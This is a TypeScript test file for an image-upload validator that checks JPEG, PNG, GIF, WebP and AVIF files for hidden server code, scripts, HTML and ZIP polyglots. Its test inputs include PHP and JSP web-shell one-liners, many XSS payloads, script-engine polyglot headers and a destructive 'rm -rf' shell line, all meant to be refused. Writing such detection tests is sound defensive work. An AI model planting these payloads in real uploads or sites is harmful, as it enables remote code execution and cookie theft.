import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../src/core/limits.js';
import { findAmbiguity } from '../../src/imaging/ambiguity.js';
import { faultOf, made, pictures } from './inspecting.js';
import { aBox, aChunk, numbers } from './pictures.js';

const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const ambiguous = (found: string) => ({ code: 'image-ambiguous', found });
const into = (bytes: Buffer, at: number, ...parts: readonly Buffer[]): Buffer => Buffer.concat([bytes.subarray(0, at), ...parts, bytes.subarray(at)]);

const segment = (marker: number, body: string): Buffer => Buffer.concat([numbers([2, marker], [2, body.length + 2]), text(body)]);
const inJpeg = (marker: number, body: string): Buffer => into(made('jpeg'), 2, segment(marker, body));
const inPng = (type: string, body: string): Buffer => into(made('png'), made('png').indexOf('IDAT') - 4, aChunk(type, text(body)));
/** The bytes from a GIF's first frame on begin with its descriptor; the colour table stands before it. */
const inGif = (body: string): Buffer => {
  const gif = made('gif');
  return into(gif, gif.lastIndexOf(Buffer.from([0x2c, 0, 0, 0, 0])), Buffer.from([0x21, 0xfe, body.length]), text(body), Buffer.from([0]));
};
const inWebp = (body: string): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(body.length);
  const webp = Buffer.concat([made('webp'), text('XMP '), length, text(body), Buffer.alloc(body.length % 2)]);
  webp.writeUInt32LE(webp.length - 8, 4);
  return webp;
};
const inAvif = (body: string): Buffer => Buffer.concat([made('avif'), aBox('free', text(body))]);

/** Everywhere that a format keeps words, and behind its end. */
const PLACES: readonly (readonly [name: string, put: (body: string) => Buffer])[] = [
  ['a JPEG comment', (body) => inJpeg(0xfffe, body)],
  ['EXIF', (body) => inJpeg(0xffe1, `Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0${body}`)],
  ['XMP', (body) => inJpeg(0xffe1, `http://ns.adobe.com/xap/1.0/\0${body}`)],
  ['PNG text', (body) => inPng('tEXt', `Comment\0${body}`)],
  ['international PNG text', (body) => inPng('iTXt', `Comment\0\0\0en\0\0${body}`)],
  ['a GIF comment', inGif],
  ['WebP metadata', inWebp],
  ['a box of an AVIF', inAvif],
  ...['jpeg', 'png', 'gif', 'webp'].map((name): (typeof PLACES)[number] => [`bytes behind a ${name}`, (body) => Buffer.concat([made(name), text(body)])]),
];
/** A member as any packer writes it; the directory of an empty archive. */
const ZIP_MEMBER = 'PK\x03\x04\x14\0\0\0\x08\0\x21\x54\x6a\x59\0\0\0\0\x02\0\0\0\0\0\0\0\x05\0\0\0a.php\x03\0';
const ZIP_END = `PK\x05\x06${'\0'.repeat(18)}`;

const word = (value: number): string => String.fromCharCode(value & 0xff, value >> 8);
/** An archive of one file. What its member's head says, and the number of the disk, is not what every program goes by. */
const zipOf = ({ needed = 20, disk = 0, packing = 0 }): string => {
  const fields = (version: number, how: number) => `${word(version)}\0\0${word(how)}\0\0\x21\x54\x83\x16\xdc\x8c\x01\0\0\0\x01\0\0\0\x01\0\0\0`;
  const member = `PK\x03\x04${fields(needed, packing)}ax`;
  const entry = `PK\x01\x02\x14\0${fields(20, 0)}${'\0'.repeat(14)}a`;
  return `${member}${entry}PK\x05\x06${word(disk)}${word(disk)}\x01\0\x01\0${word(entry.length)}\0\0${word(member.length)}\0\0\0\0`;
};

describe.each(PLACES)('in %s', (_, put) => {
  it.each([
    ['PHP', '<?php system($_GET[0]); ?>'],
    ['PHP', 'GIF89a;\n<?PHP\necho 1;'],
    ['server code', '<?=`$_GET[0]`?>'],
    ['server code', '<? passthru("id") ?>'],
    ['server code', '<%@ page import="java.io.*" %>'],
    ['a script', '<script>alert(1)</script>'],
    ['a script', '<SCRIPT src=//x.example>'],
    ['HTML', '<!DOCTYPE html><title>x</title>'],
    ['HTML', '<html><body>hello there'],
    ['HTML', '<img src=x onerror=alert(1)>'],
    ['HTML', '<svg/onload=alert(1)>'],
    ['a ZIP archive', ZIP_MEMBER],
    ['a ZIP archive', ZIP_END],
    ['a ZIP archive', zipOf({})],
    ['a ZIP archive', zipOf({ disk: 1, needed: 64 })],
    ['a ZIP archive', zipOf({ disk: 1, needed: 99, packing: 99 })],
    ['server code', '<?=/*\xff*/`$_GET[0]`?>'],
    ['server code', '<?= /*\x80*/system($_GET[0])?>'],
    ['server code', '<?=$\xc3\xa4=`id`?>'],
    ['server code', '<?="\xff".`id`?>'],
    ['server code', '<?/**/system("id")?>'],
    ['server code', '<?/*?>\xff\xfe\xfd*/system("id")?>'],
    ['server code', '<?$a=`id`;echo $a;?>'],
    ['server code', '<?echo`id`?>'],
    ['server code', '<? system($_GET["cmd"]); exit;'],
    ['server code', '<%=`id`%>'],
    ['server code', '<% Runtime.getRuntime().exec("id"); %>'],
    ['server code', '<!--#exec cmd="id" -->'],
    ['server code', '<jsp:scriptlet>x()</jsp:scriptlet>'],
    ['a script', '<xml:script xmlns:xml="http://www.w3.org/1999/xhtml">alert(1)</xml:script>'],
    ['HTML', '<video src=x onerror=alert(1)>'],
    ['HTML', '<audio src=x onerror=alert(1)>'],
    ['HTML', '<details open ontoggle=alert(1)>'],
    ['HTML', '<input autofocus onfocus=alert(1)>'],
    ['HTML', '<svg><animate onbegin=alert(1) attributeName=x>'],
    ['HTML', '<svg><set onend="alert(1)" dur=1s>'],
    ['HTML', '<a href="javascript:alert(1)">'],
    ['HTML', '<a\thref=JavaScript:alert(1)>'],
    ['HTML', '<base href=//x.example/>'],
    ['HTML', '<div onmouseover=alert(1)>'],
    ['HTML', '<div title="\xc3\xa4 > b" onmouseover = "alert(1)">'],
    ['HTML', '<button onclick=alert(1)>'],
    ['HTML', '<frameset onload=alert(1)>'],
    ['HTML', '<form action=//x.example method=post>'],
  ])('%s is refused: %j', (found, body) => expect(faultOf(put(body))).toEqual(ambiguous(found)));

  it.each([
    ['a caption', 'Vase <b>blue</b> & <a href="x">more</a>, PK, <3, 5 < 6 > 4'],
    ['XMP as editors write it', '<?xpacket begin="" id="W5M0"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta><?xpacket end="w"?>'],
    ['an icon', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9" fill="none"/></svg>'],
    ['what cameras note', 'vivo{"com.android.camera.takenModel":"X9 (L29)","zoom":1.0;"on":true}cameralbum'],
    ['an XML head', '<?xml version="1.0"?><svgDescription/>'],
    ['an instruction to a program', `<?xml version='1.0' encoding="UTF-8" standalone = "yes" ?><?adobe-xap-filters esc="CRLF"?>`],
    ['a caption with words in angle brackets', 'a <form of address> in german, a <head of state>'],
    ['a caption with a comparison', 'less than <% of the total, more than <? of it'],
    ['a comment', '<!-- <h1>hi</h1> -->'],
    ['a word about scripts', 'Shot for the book "javascript: the good parts" <b>only=yes</b>'],
    ['a note with a model', 'Canon EOS(R5) serial'],
    ['a note that is a model', 'EOS(R5) mark two'],
    ['JSON', '{"camera":"x","fn":"a(b)"}'],
    ['JSON with quotes in quotes', '{"camera":"a \\"b\\" c(\\"d\\");","zoom":1}'],
  ])('%s is fine', (_, body) => expect(faultOf(put(body))).toBeUndefined());
});

describe('what stands behind the end', () => {
  const jpeg = made('jpeg');
  const behind = (...parts: readonly Buffer[]) => faultOf(Buffer.concat([jpeg, ...parts]));

  it('may be a gain map or a preview: another JPEG', () => {
    expect(behind(jpeg)).toBeUndefined();
    expect(behind(Buffer.alloc(20), jpeg, jpeg)).toBeUndefined();
    expect(behind(inJpeg(0xffe2, 'MPF\0MM\0*\0\0\0\x08'))).toBeUndefined();
  });

  it('may be a motion photo: a video, also with a trailer of its own', () => {
    const video = Buffer.concat([aBox('ftyp', text('mp42\0\0\0\0isommp42')), aBox('mdat', noise(100_000)), aBox('moov', noise(500))]);
    expect(behind(video)).toBeUndefined();
    expect(behind(text('\0\0\x30\x0a\x10\0\0\0MotionPhoto_Data'), video, text('SEFH\x6b\0\0\0\x01\0\0\0SEFT'))).toBeUndefined();
  });

  it('may be bytes of any kind that no text begins with', () => {
    for (let seed = 0; seed < 3000; seed++) expect(findAmbiguity(Buffer.concat([jpeg, noise(64, seed)]), jpeg.length), `seed ${seed}`).toBeUndefined();
  });

  it('may be padding, a line end, a word', () => {
    for (const some of ['\0'.repeat(999), '\n', '\r\n\r\n', 'FUJIFILM', 'made by hand in 1998']) expect(behind(text(some)), some).toBeUndefined();
  });

  it('must not be found in another picture either', () => expect(behind(inJpeg(0xfffe, '<?php phpinfo();'))).toEqual(ambiguous('PHP')));

  it('must not be code', () => {
    for (const code of [
      '*/=1;alert(1)//',
      '\n;fetch("//x.example")',
      '\0\0 (function(){})()',
      '#!/bin/sh\nrm -rf $(pwd);',
      'alert(document.cookie)',
      'a 5" lens\nx=eval(name)//',
    ])
      expect(behind(text(code)), code).toEqual(ambiguous('a script'));
  });
});

describe('a picture that a script engine reads as well', () => {
  it('opens a comment in place of its size', () => {
    const gif = Buffer.concat([
      text('GIF89a/*'),
      made('gif').subarray(8, -1),
      Buffer.from([0x21, 0xfe, 19]),
      text('*/=1;alert(document'),
      Buffer.from([0, 0x3b]),
    ]);
    expect(faultOf(gif)).toEqual(ambiguous('a script'));
  });

  it('opens one in place of the length of its first segment', () => {
    const body = `${'\0'.repeat(0x2f2a - 2 - 24)}*/=1;alert(document.URL)`;
    expect(faultOf(inJpeg(0xffe0, body.slice(0, 0x2f2a - 2)))).toEqual(ambiguous('a script'));
  });

  it('is one only where the comment ends', () => {
    const gif = made('gif');
    const wide = Buffer.concat([text('GIF89a/*'), gif.subarray(8)]);
    expect(faultOf(wide)).toBeUndefined();
  });
});

describe('pictures disguised as others', () => {
  it.each([
    ['SVG', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['MVG', 'push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "https://x.example"'],
    ['PostScript', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9'],
    ['PDF', '%PDF-1.7\n1 0 obj'],
    ['a JPEG that is none', '\xff\xd8\xff\xe0<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['a GIF that is none', 'GIF89a<script>alert(1)</script>'],
    ['an AVIF that is HEIC', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'],
  ])('%s is refused', (_, body) => expect(['image-unreadable', 'limit-passed']).toContain(faultOf(text(body))?.code));
});

/** The same bytes each time, as random as coded data. */
function noise(length: number, seed = 0): Buffer {
  const blocks = Array.from({ length: Math.ceil(length / 64) }, (_, at) => createHash('sha512').update(`${seed} ${at}`).digest());
  return Buffer.concat(blocks).subarray(0, length);
}

describe('coded data', () => {
  it('is taken for nothing else, however much there is', () => {
    for (let seed = 0; seed < 4; seed++) expect(findAmbiguity(noise(5_000_000, seed), 4_000_000)).toBeUndefined();
  });

  it('of every kind of picture is fine', () => {
    for (const { name, bytes } of pictures) expect(findAmbiguity(bytes, bytes.length), name).toBeUndefined();
  });

  it('full of openings is looked through in time', { timeout: 60_000 }, () => {
    for (const opening of ['<', '<?', '<s', '<a ', 'PK\x03\x04', 'PK', "='"]) findAmbiguity(Buffer.alloc(DEFAULT_LIMITS.imageBytes, opening), 0);
  });

  it('hides no mark, wherever it stands', () =>
    fc.assert(
      fc.property(fc.nat(300_000), fc.constantFrom('', '<', '<!'), (at, fill) => {
        const bytes = fill === '' ? noise(300_100) : Buffer.alloc(300_100, fill);
        bytes.write('<?php 1;', at, 'latin1');
        expect(findAmbiguity(bytes, bytes.length)).toMatch(/^(PHP|markup)$/);
      }),
      { numRuns: 60 },
    ));
});
